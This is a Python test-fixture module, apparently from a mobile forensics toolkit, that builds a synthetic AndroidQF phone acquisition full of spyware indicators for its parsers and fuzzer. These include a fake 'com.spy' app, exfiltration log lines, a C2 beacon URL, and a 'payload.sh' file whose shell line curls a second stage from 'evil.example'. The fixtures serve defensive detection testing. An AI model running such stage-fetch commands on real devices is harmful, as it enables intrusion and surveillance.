"""A sample AndroidQF acquisition with an artefact for every Android parser, built in code.

The fuzzer harvests its seeds from it (``tests/fuzz/harvest.py``): every registered Android
parser must find at least one artefact here or in another builder. Everything comes from the
builders of :mod:`tests.builders.android` (AOSP's dumpsys/dumpstate delimiters, AndroidQF's file
names and JSON fields, the ``.ab`` container, tombstone text and protobuf) with the values the
parsers' own tests use; a new Android parser adds its artefact here.

Layout (mvt-project/androidqf ``acquisition/acquisition.go``, ``modules/*.go``): the JSON files
and command outputs at the root, ``logs/<device path>`` for pulled log files,
``intrusion_logs/`` (Android 16 intrusion logging), ``bugreport.zip`` (with ``FS/`` copies of
device files: tombstones) and ``backup.ab`` (the telephony provider's SMS/MMS backups).
"""

from __future__ import annotations

import json
import struct
from pathlib import Path

from tests.builders.android import (
    AndroidQFBuilder,
    ab_backup,
    accessibility_v14,
    adb_text,
    appops,
    battery_history,
    bugreport_text,
    device_policy,
    dumpsys_block,
    dumpsys_package,
    package_block,
    package_json,
    sms_backup_file,
    tombstone_proto,
    tombstone_text,
    write_bugreport,
)

TELEPHONY = "apps/com.android.providers.telephony/d_f/"
"""Where ``adb backup`` puts the telephony provider's ``*_sms_backup`` / ``*_mms_backup`` files."""


def abx_key_store(key: str, last: int) -> bytes:
    """An Android Binary XML ``keyStore`` with one ``adbKey`` (frameworks/base
    ``BinaryXmlSerializer``: ``ABX\\0``, token bytes, interned strings)."""

    def interned(s: str) -> bytes:
        data = s.encode()
        return b"\xff\xff" + struct.pack(">H", len(data)) + data

    out = b"ABX\x00" + bytes([0x10 | 0])  # start document
    out += bytes([0x20 | 2]) + interned("keyStore")
    out += bytes([0x20 | 2]) + interned("adbKey")
    out += bytes([0x20 | 15]) + interned("key") + struct.pack(">H", len(key)) + key.encode()
    out += bytes([0x80 | 15]) + interned("lastConnection") + struct.pack(">q", last)
    out += bytes([0x30 | 3]) + b"\x00\x01" + bytes([0x30 | 3]) + b"\x00\x00" + bytes([0x10 | 1])
    return out


def intrusion_log() -> bytes:
    """Intrusion logging events, one JSON object a line (Android 16)."""
    events = [
        {"dns_event": {"event_time": 1714640000000, "hostname": "evil.example", "ip_addresses": ["/203.0.113.5"],
                       "package_name": "com.spy"}},
        {"connect_event": {"event_time": 1714640001000, "ip_address": "/203.0.113.5", "port": 443,
                           "package_name": "com.spy"}},
        {"security_event": {"event_time": 1714640002000000000,
                            "cert_authority_installed": {"success": True, "subject": "CN=MITM"}}},
    ]
    return "".join(json.dumps(e) + "\n" for e in events).encode()


def sms_backup() -> bytes:
    """The ``.ab`` backup of the telephony provider: one SMS and one MMS backup file."""
    return ab_backup({
        TELEPHONY + "000000_sms_backup": sms_backup_file([
            {"address": "+336", "body": "see https://evil.example/x", "date": "1714640000000", "date_sent": "0",
             "type": "1", "read": "1"}]),
        TELEPHONY + "000001_mms_backup": sms_backup_file([
            {"date": "1714640000", "msg_box": "2", "mms_body": "hi", "mms_addresses": [{"type": 137, "address": "+337"}]}]),
    })


def bugreport_zip(path: Path) -> Path:
    """A bugreport with a process table, a system log and two tombstones (text and protobuf)."""
    ps = ("LABEL USER PID TID PPID VSZ RSS WCHAN ADDR S PRI NI RTPRIO SCH PCY TIME CMD\n"
          "u:r:init:s0 root 1 1 0 1 1 0 0 S 19 0 - 0 fg 00:00:01 init\n"
          "u:r:untrusted_app:s0 u0_a230 4242 4242 1 1 1 0 0 S 19 0 - 0 fg 00:00:01 com.spy\n")
    logcat = "05-02 10:00:00.123  1234  1250 I Spy: upload to https://evil.example/x\n"
    fs = {"/data/tombstones/tombstone_00": tombstone_text("/system/bin/mediaserver", 1013).encode(),
          "/data/tombstones/tombstone_01.pb": tombstone_proto(["/system/bin/surfaceflinger"], 1000)}
    dumpsys = [dumpsys_block("cpuinfo", "Load: 2.0")]
    return write_bugreport(path, bugreport_text(ps=ps, logcat=logcat, dumpsys=dumpsys), fs)


def sample_androidqf() -> AndroidQFBuilder:
    """An AndroidQF acquisition's files (without the nested ``bugreport.zip`` and ``backup.ab``,
    which :func:`write_sample_androidqf` adds)."""
    b = AndroidQFBuilder()
    b.add_dumpsys("accessibility", accessibility_v14(["com.spy/com.spy.A", "com.b/.B"]))
    b.add_dumpsys("adb", adb_text([("QAAAAAcgbytJ user@laptop", 1628501829898)]))
    b.add_dumpsys("appops", appops({"com.x": [("REQUEST_INSTALL_PACKAGES", "allow"), ("CAMERA", "deny")]}))
    b.add_dumpsys("batterystats", battery_history("2024-05-01-08-00-00", [("+1h02m03s004ms", 'pkginst=12:"com.spy"')])
                  + "Daily stats:\n  Daily from 2024-04-30-03-00-00 to 2024-05-01-03-00-00:\n"
                                  "    Package changes:\n      Update com.spy vers=12\n      Update com.old vers=0\n")
    b.add_dumpsys("dbinfo", "Applications Database Info:\n\n** Database info for pid 8817 [com.spy] **\n\n"
                            "Most recently executed operations:\n    0: [2024-05-01 13:26:36.560] executeForCursorWindow "
                            'took 0ms - succeeded, sql="SELECT 1", path=/data/user/0/com.spy/databases/a.db\n')
    b.add_dumpsys("device_policy", device_policy(["com.spy/com.spy.Admin"]))
    b.add_dumpsys("package", dumpsys_package(
        [package_block("com.spy", installer=None, runtime=("android.permission.READ_SMS",), disabled=("com.spy.Main",)),
         package_block("com.android.settings", system=True)],
        main=["com.a/.Main"], boot=["com.spy/.Boot"]))
    b.add_dumpsys("platform_compat", "ChangeId(168419799; name=DOWNSCALED; disabled; packageOverrides={com.a=false}; "
                                     "rawOverrides={com.gone=false, com.a=false}; overridable)\n")
    b.set_text("env.txt", "PATH=/product/bin:/system/bin\nTMPDIR=/data/local/tmp\nnot a variable\n")
    entry = {"path": "/sdcard/a.jpg", "size": 3, "mode": "-rw-rw----", "modified_time": 1714640000, "sha256": "ab" * 32}
    b.set_json("files.json", [entry, entry | {"path": "/data/local/tmp/b"}])
    b.set_text("logcat.txt", "05-02 10:00:00.123  1234  1250 I Spy: upload to https://evil.example/x\n"
                             "05-02 10:00:01.000  1234  1250 I Boring: nothing here\n")
    b.set_text("logcat_old.txt", "05-01 09:00:00.000  1000  1234  1250 W Net: connect 203.0.113.9:443\n")
    b.set_json("mounts.json", ["/dev/block/dm-0 on /system type ext4 (ro,seclabel)",
                               "/dev/block/dm-1 /vendor ext4 rw,seclabel 0 0"])
    b.set_json("packages.json", [package_json("com.x", subject="C=FR, O=Example SRL, CN=Kids Safety"),
                                 package_json("com.android.settings", system=True)])
    b.set_json("processes.json", [
        {"pid": 1, "uid": 0, "ppid": 0, "filename": "init", "command_line": ["/system/bin/init"], "path": "/system/bin/init"},
        {"pid": 900, "uid": 10230, "ppid": 1, "filename": "com.spy:remote", "command_line": ["com.spy:remote"]},
    ])
    b.set_text("processes.txt", "USER PID PPID VSZ RSS WCHAN ADDR S NAME\n"
                                "root 1 0 10 2 0 0 S init\nu0_a9 4242 1 10 2 0 0 S com.evil.app\n")
    b.set_json("root_binaries.json", ["/system/bin/su\n/system/xbin/su", "/data/local/tmp/magisk"])
    b.set_text("selinux.txt", "Permissive\n")
    b.set_text("services.txt", "Found 2 services:\n0\tDockObserver: []\n"
                               "1\taccessibility: [android.view.accessibility.IAccessibilityManager]\n")
    b.set_text("settings_global.txt", "package_verifier_enable=0\n")
    b.set_text("settings_secure.txt", "enabled_notification_listeners=com.a/com.a.L:com.b/.N\n")
    b.set_text("adb_host_key.pub", "QAAAAAcgbytJhostkey user@laptop\n")
    b.set_text("logs/data/anr/anr_2024", "am_anr: https://c2.example/beacon\nnothing\n")
    b.set_text("logs/data/system/uiderrors.txt", "1714640000 uid 10230 com.spy: connect 203.0.113.7\n")
    b.files["intrusion_logs/log_1.txt"] = intrusion_log()
    b.files["tmp/payload.sh"] = b"#!/system/bin/sh\ncurl https://evil.example/stage2\n"
    return b


def write_sample_androidqf(root: Path) -> Path:
    """The sample written as a folder at ``root``, with its nested ``bugreport.zip`` and
    ``backup.ab``; returns ``root``."""
    b = sample_androidqf()
    b.write_folder(root)
    bugreport_zip(root / "bugreport.zip")
    (root / "backup.ab").write_bytes(sms_backup())
    return root
